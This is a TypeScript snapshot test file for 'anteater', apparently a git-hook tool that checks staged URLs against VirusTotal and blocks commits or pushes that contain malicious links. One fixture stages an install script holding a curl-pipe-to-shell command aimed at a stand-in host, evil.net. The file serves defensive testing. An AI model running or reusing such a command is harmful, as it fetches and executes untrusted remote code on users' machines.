/**
 * The screens of the situations that people meet, in terminals of 80 and 120 columns, whole: files below
 * test/fixtures/screens, to be looked at when they change (`vitest -u` writes them again).
 */
import { existsSync } from 'node:fs';
import { mkdir, symlink } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { BIN, binary, gitWith, installHooks, type World, withWorld } from '../helpers/cli.ts';
import { CTRL_C, hasTerminal, inTerminal, type TerminalHow, type Typed } from '../helpers/terminal.ts';
import { killResolvers } from './push-world.ts';

const EVIL = 'http://evil.net/x';
const ENGINES = {
  'Emulated AV one': { result: 'malware' },
  'Emulated AV two': { result: 'phishing' },
  'Emulated AV three': { result: 'malicious' },
};
const analysedAt = Math.floor(Date.now() / 1000) - 2 * 86_400 - 600;
const BAD = { analysedAt, malicious: 12, suspicious: 1, harmless: 60, undetected: 20, engines: ENGINES };
const LIMITS = 'vt_limits: {minute: 4, day: 500, month: 15500}\n';

interface Situation {
  /** What came before; gives what is added to the environment. */
  readonly before: (world: World) => Promise<NodeJS.ProcessEnv | undefined>;
  readonly command: string;
  readonly code: number;
  readonly typing?: readonly Typed[];
}

async function stageEvil({ repo, vt }: World): Promise<undefined> {
  vt.verdict(EVIL, BAD);
  await repo.stage('src/install.sh', `#!/bin/sh\n\tcurl -sSf ${EVIL} | sh\n`);
}

const situations: Readonly<Record<string, Situation>> = {
  block: {
    before: async (world) => {
      await stageEvil(world);
      await world.repo.stage('assets/logo.png', binary('logo'));
      return undefined;
    },
    command: 'anteater',
    code: 1,
  },
  warn: {
    before: async ({ repo, vt }) => {
      vt.verdict('http://odd.net/', {
        analysedAt,
        malicious: 1,
        harmless: 70,
        engines: { Zed: { result: 'spam' } },
      });
      await repo.stage('a.txt', 'see http://odd.net/\n');
      return undefined;
    },
    command: 'anteater',
    code: 0,
  },
  pass: {
    before: async ({ repo, vt }) => {
      vt.verdict('http://fine.net/', { harmless: 70 });
      await repo.stage('a.txt', 'see http://fine.net/\n');
      return undefined;
    },
    command: 'anteater',
    code: 0,
  },
  deferred: {
    before: async ({ repo, rc }) => {
      await rc('vt_limits: {minute: 1, day: 500, month: 15500}\nurl_hosts: off\n');
      await repo.stage('a.txt', 'http://one.net/ http://two.net/ http://three.net/\n');
      return { CI: 'true' };
    },
    command: 'anteater',
    code: 0,
  },
  'no-key': {
    before: async (world) => {
      await stageEvil(world);
      return { VT_KEY: '' };
    },
    command: 'anteater',
    code: 0,
  },
  'wrong-key': {
    before: async (world) => {
      await stageEvil(world);
      return { VT_KEY: 'f'.repeat(64) };
    },
    command: 'anteater',
    code: 0,
  },
  'no-network': {
    before: async (world) => {
      await stageEvil(world);
      return { ANTEATER_VT_URL: 'http://127.0.0.1:1/api/v3' };
    },
    command: 'anteater',
    code: 0,
  },
  'too-many-requests': {
    before: async (world) => {
      await stageEvil(world);
      world.vt.fault('quota', { times: Number.POSITIVE_INFINITY });
      await world.rc(LIMITS);
      return undefined;
    },
    command: 'anteater',
    code: 0,
  },
  'redis-down': {
    before: async (world) => {
      await stageEvil(world);
      return { ANTEATER_REDIS_URL: 'redis://127.0.0.1:1' };
    },
    command: 'anteater',
    code: 1,
  },
  many: {
    before: async ({ repo, vt }) => {
      const urls = Array.from(
        { length: 7 },
        (_, index) => `http://evil${index}.net/${'path/'.repeat(index * 4)}x`,
      );
      for (const url of urls) vt.verdict(url, BAD);
      await repo.write('.anteaterrc', 'vt_limits: {minute: null, day: 500, month: 15500}\n');
      await repo.stage('src/urls.txt', `${urls.join('\n')}\n`);
      return undefined;
    },
    command: 'anteater',
    code: 1,
  },
  'earlier-commit': {
    before: async (world) => {
      const { repo, vt, anteater } = world;
      const env = { ...(await installHooks(world)), ...DATES, CI: 'true' };
      vt.verdict(EVIL, BAD);
      vt.fault('server-error', { path: '/urls', times: Number.POSITIVE_INFINITY });
      await repo.stage('src/a.txt', `one\n${EVIL}\n`);
      expect((await gitWith(world, env, ['commit', '-qm', 'first'])).code).toBe(0);
      vt.clearFaults();
      await anteater(['pending', '--resolve'], { env: { CI: 'true' } });
      await repo.stage('b.txt', 'harmless\n');
      return { CI: 'true' };
    },
    command: 'git commit -qm second',
    code: 1,
  },
  waiting: {
    before: async ({ repo, rc }) => {
      await rc('vt_limits: {minute: 1, day: 500, month: 15500}\nurl_hosts: off\n');
      await repo.stage('a.txt', 'http://one.net/ http://two.net/ http://three.net/\n');
      return {};
    },
    command: 'anteater --max-wait 10m',
    code: 130,
    typing: [{ at: /1 of 3 checked, about/, keys: CTRL_C }],
  },
  'first-init': {
    before: async () => ({ VT_KEY: '' }),
    command: 'anteater init --yes',
    code: 0,
  },
  'guided-init': {
    before: async () => ({ VT_KEY: '' }),
    command: 'anteater init',
    code: 0,
    typing: [
      { at: /Install the hooks/, keys: 'y\r' },
      { at: /VirusTotal key \(/, keys: 'f00\r' },
      { at: /64 hexadecimal digits[\s\S]*VirusTotal key \(/, keys: '\r' },
      { at: /Prove it/, keys: 'y\r' },
    ],
  },
  push: {
    before: async (world) => {
      const { repo } = world;
      await stageEvil(world);
      await repo.commit('Add the installer');
      await repo.stage('b.txt', 'harmless\n');
      await repo.commit('More');
      return undefined;
    },
    command: 'anteater pre-push origin < /dev/tty',
    code: 1,
  },
};

/** Commits that have the same names in every run. */
const DATES = { GIT_AUTHOR_DATE: '2026-11-21T12:00:00Z', GIT_COMMITTER_DATE: '2026-11-21T12:00:00Z' };

async function show(world: World, { before, command, typing = [] }: Situation, columns: number) {
  const { repo } = world;
  Object.assign(repo.env, DATES);
  const bin = join(repo.outside, 'bin');
  await mkdir(bin, { recursive: true });
  const more = await before(world);
  // Where the hooks were installed it is there already.
  if (!existsSync(join(bin, 'anteater'))) await symlink(BIN, join(bin, 'anteater'));
  const env: NodeJS.ProcessEnv = {
    ...world.env,
    ...DATES,
    PATH: `${bin}:${world.env.PATH}`,
    TERM: 'xterm-256color',
    LANG: 'C.UTF-8',
    NO_COLOR: '1',
    ...more,
  };
  const how: TerminalHow = {
    columns,
    cwd: repo.dir,
    env,
    typing,
  };
  return inTerminal(command, how);
}

/** What differs from run to run, and from machine to machine. */
function steady(text: string, world: World): string {
  return text
    .replaceAll(world.repo.outside, '/home/ada')
    .replaceAll(`127.0.0.1:${world.vt.port}`, '127.0.0.1:12345')
    .replace(/^(Time +).*$/gm, '$1…')
    .replace(/[█░]{4,} (?=1 of 3)/, '████░░░░░░░░ ')
    .replace(/about \d+ (?:min(?: \d+ s)?|s) to go/, 'about 2 min to go')
    .replace(/\bin (?:\d+ min(?: \d+ s)?|\d+ s)\b/g, 'in 59 s');
}

describe.skipIf(!hasTerminal).each([80, 120])(
  'in a terminal of %d columns (needs script of util-linux)',
  (columns) => {
    test.each(Object.entries(situations))('%s', async (name, situation) => {
      await withWorld(
        async (world) => {
          const screen = await show(world, situation, columns);
          await killResolvers(world.home);
          // What is shown during a wait, but for the sign that turns, and then what is left on the screen.
          const moving =
            name !== 'waiting' ? '' : `${screen.before.replace(/[\u2800-\u28ff]/g, '\u280b')}--- Ctrl-C\n`;
          const text = steady(moving + screen.text, world);
          expect(screen.code, text).toBe(situation.code);
          await expect(text).toMatchFileSnapshot(`../fixtures/screens/${name}-${columns}.txt`);
        },
        { rc: LIMITS, complaints: /./ },
      );
    });
  },
);
